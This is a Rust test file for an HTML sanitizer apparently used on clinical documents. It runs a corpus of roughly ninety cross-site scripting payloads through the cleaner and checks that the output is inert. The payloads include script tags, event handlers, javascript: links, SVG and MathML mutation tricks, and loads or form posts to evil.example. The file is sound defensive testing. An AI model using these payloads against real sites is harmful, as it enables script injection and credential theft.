//! What HTML can do to a reader, and what of it is left: nothing. The corpus is our own.

use exchange::document::{Kind, html, narrative, text};
use proptest::prelude::*;
use serde_json::json;

/// Attacks. Each says `harmless` somewhere in its words.
const CORPUS: &[&str] = &[
    // Scripts, in every dress.
    "harmless<script>alert(1)</script>",
    "harmless<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "harmless<scr<script>ipt>alert(1)</scr</script>ipt>",
    "harmless<script/x>alert(1)</script/x>",
    "harmless<script>alert(1)",
    "harmless<<script>alert(1)//<</script>",
    "harmless<script\u{c}src=//evil.example></script>",
    "harmless<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "harmless<template><script>alert(1)</script></template>",
    "harmless<xmp><script>alert(1)</script></xmp>",
    "harmless<textarea><script>alert(1)</script></textarea>",
    "harmless<title><img src=x onerror=alert(1)></title>",
    // Handlers.
    "<p onclick=alert(1)>harmless</p>",
    "<body onload=alert(1)>harmless",
    "<p/onmouseover='alert(1)'/x>harmless",
    "<p \nonpointerenter\n=\nalert(1)>harmless",
    "<details open ontoggle=alert(1)>harmless</details>",
    "<b style=animation-name:x onanimationstart=alert(1)>harmless</b>",
    "<img src=x onerror=alert(1) alt=harmless>",
    "<img src=\"x\" alt='harmless\" onerror=\"alert(1)'>",
    "<td background=javascript:alert(1)>harmless",
    // Frames and plug-ins.
    "harmless<iframe src=https://evil.example></iframe>",
    "harmless<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example/x.swf>harmless</object>",
    "harmless<embed src=https://evil.example/x.swf>",
    "<applet code=x>harmless</applet>",
    "harmless<frameset><frame src=javascript:alert(1)></frameset>",
    "harmless<portal src=https://evil.example></portal>",
    // SVG and MathML.
    "<svg onload=alert(1)><text>harmless</text></svg>",
    "<svg><script>alert(1)</script><text>harmless</text></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>harmless</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><text>harmless</text></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject>harmless</svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>harmless",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">harmless",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>harmless",
    "<math href=javascript:alert(1)>harmless</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>harmless",
    // Addresses.
    "<a href=javascript:alert(1)>harmless</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>harmless</a>",
    "<a href=' &#14;  javascript:alert(1)'>harmless</a>",
    "<a href='java\tscript:alert(1)'>harmless</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>harmless</a>",
    "<a href=vbscript:msgbox(1)>harmless</a>",
    "<a href=//evil.example>harmless</a>",
    "<a href=file:///etc/passwd>harmless</a>",
    "<a href=harmless ping=https://evil.example>harmless</a>",
    // What loads from elsewhere.
    "<img src=https://evil.example/pixel.gif alt=harmless>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=harmless>",
    "<img srcset='https://evil.example/x 2x' alt=harmless>",
    "<picture><source srcset=https://evil.example/x></picture>harmless",
    "<video poster=https://evil.example/x src=https://evil.example/y>harmless</video>",
    "<audio src=https://evil.example/x autoplay>harmless</audio>",
    "harmless<track src=https://evil.example/x>",
    "<input type=image src=https://evil.example/x value=harmless>",
    "<link rel=stylesheet href=https://evil.example/x.css>harmless",
    "<link rel=prefetch href=https://evil.example/x>harmless",
    "<base href=https://evil.example/>harmless",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>harmless",
    "<html manifest=https://evil.example/x>harmless",
    // Styles.
    "<p style='background:url(https://evil.example/x)'>harmless</p>",
    "<p style=\"background-image: url('javascript:alert(1)')\">harmless</p>",
    "<p style='width: expression(alert(1))'>harmless</p>",
    "<style>@import 'https://evil.example/x.css';</style>harmless",
    "<style>p { background: url(//evil.example/x) }</style>harmless",
    "<p style='position:fixed;top:0;width:100%'>harmless</p>",
    "<p class=evil id=evil name=evil>harmless</p>",
    // Forms.
    "<form action=https://evil.example><input name=password value=harmless><button>go</button></form>",
    "<button formaction=javascript:alert(1)>harmless</button>",
    "<isindex type=image src=1 onerror=alert(1)>harmless",
    // Comments, CDATA, declarations, broken tags.
    "harmless<!-- <script>alert(1)</script> -->",
    "harmless<!--><script>alert(1)</script>-->",
    "harmless<!-- --!><img src=x onerror=alert(1)>",
    "harmless<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[<![CDATA[harmless]]><img src=x onerror=alert(1)>]]>",
    "harmless<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]><p>harmless &x;</p>",
    "harmless<img src=x onerror=alert(1)//",
    "harmless<p title=\"<img src=x onerror=alert(1)>",
    "harmless</p onclick=alert(1)>",
    "harmless<\u{0}script>alert(1)</script>",
    "harmless<a\u{0}href=javascript:alert(1)>",
    "harmless&lt;script&gt;alert(1)&lt;/script&gt;",
    "harmless&#60;img src=x onerror=alert(1)&#62;",
    "harmless\u{ff1c}script\u{ff1e}alert(1)",
    "<p>harmless</p><plaintext><script>alert(1)</script>",
    "<custom-tag onclick=alert(1)>harmless</custom-tag>",
];

/// Every tag that stands in the cleaned text must be one of a few, with nothing but numbers for attributes.
fn assert_inert(cleaned: &str, source: &str) {
    for part in cleaned.split('<').skip(1) {
        let tag = part.split('>').next().unwrap();
        let tag = tag.trim_start_matches('/');
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(
            name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit()) && name.len() < 11,
            "{source}: {cleaned}"
        );
        let known = [
            "script", "style", "iframe", "svg", "math", "img", "a", "form", "object", "link", "meta", "base",
        ];
        assert!(!known.contains(&name), "{source}: {cleaned}");
        for attribute in attributes.split_whitespace() {
            let (key, value) = attribute.split_once('=').expect("a value");
            assert!(["colspan", "rowspan", "start", "value"].contains(&key), "{source}: {cleaned}");
            assert!(value.trim_matches('"').parse::<u32>().is_ok(), "{source}: {cleaned}");
        }
    }
}

#[test]
fn c32_nothing_of_the_corpus_runs_or_loads() {
    for attack in CORPUS {
        let cleaned =
            html(attack.as_bytes(), Kind::Html).unwrap_or_else(|| panic!("{attack}: its words are lost"));
        assert!(cleaned.contains("harmless"), "{attack}: {cleaned}");
        assert_inert(&cleaned, attack);
        assert!(text(attack.as_bytes(), Kind::Html).unwrap().unwrap().contains("harmless"), "{attack}");
        let again = html(cleaned.as_bytes(), Kind::Html).unwrap();
        assert_eq!(again, cleaned, "{attack}: cleaning twice says something else");
    }
}

#[test]
fn c32_a_narrative_is_cleaned_as_a_document_is() {
    for attack in CORPUS {
        let resource = json!({"text": {"status": "generated", "div": format!("<div>{attack}</div>")}});
        assert_inert(&narrative(&resource).unwrap(), attack);
    }
    assert_eq!(narrative(&json!({"text": {"status": "empty", "div": "<div/>"}})), None);
    assert_eq!(narrative(&json!({"text": {"div": 5}})), None);
    assert_eq!(narrative(&json!([])), None);
}

#[test]
fn c32_a_cda_document_can_say_no_more_than_html_can() {
    for attack in CORPUS {
        let xml = format!(
            "<ClinicalDocument><component><section><title>{attack}</title><text>{attack}<content {attack}>x</content></text></section></component></ClinicalDocument>"
        );
        if let Some(cleaned) = html(xml.as_bytes(), Kind::Xml) {
            assert_inert(&cleaned, attack);
        }
    }
}

#[test]
fn a_lab_report_stays_readable() {
    let report = "<html><head><title>Lab</title><style>td{color:red}</style></head><body><h1>Results</h1>\
        <table border=1><tr><th>Test<th>Value<tr><td>K<td><b>5.9 &gt; high</b></table><p>Na &lt; 130<br>Call <i>us</i></body></html>";
    assert_eq!(
        html(report.as_bytes(), Kind::Html).unwrap(),
        "<div>Lab</div><div><h1>Results</h1><table><tbody><tr><th>Test</th><th>Value</th></tr><tr><td>K</td><td>\
         <b>5.9 &gt; high</b></td></tr></tbody></table><p>Na &lt; 130<br>Call <i>us</i></p></div>"
    );
    let words = text(report.as_bytes(), Kind::Html).unwrap().unwrap();
    assert_eq!(words, "Lab\nResults\nTest Value\nK 5.9 > high\nNa < 130\nCall us");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn c32_any_mixture_of_attacks_is_inert(parts in proptest::collection::vec((0..CORPUS.len(), 0usize..60, 0usize..60), 1..6)) {
        let mut mixed = String::new();
        for (which, from, length) in parts {
            mixed.extend(CORPUS[which].chars().skip(from).take(length));
        }
        if let Some(cleaned) = html(mixed.as_bytes(), Kind::Html) {
            assert_inert(&cleaned, &mixed);
        }
    }

    #[test]
    fn any_text_through_html_keeps_its_words(words in "[a-zA-Z0-9 .,;:&<>=%/()-]{0,200}") {
        let mut page = String::from("<p>");
        for letter in words.chars() {
            match letter { '<' => page.push_str("&lt;"), '&' => page.push_str("&amp;"), other => page.push(other) }
        }
        let seen = text(page.as_bytes(), Kind::Html).unwrap().unwrap_or_default();
        prop_assert_eq!(seen.split_whitespace().collect::<Vec<_>>(), words.split_whitespace().collect::<Vec<_>>());
    }
}
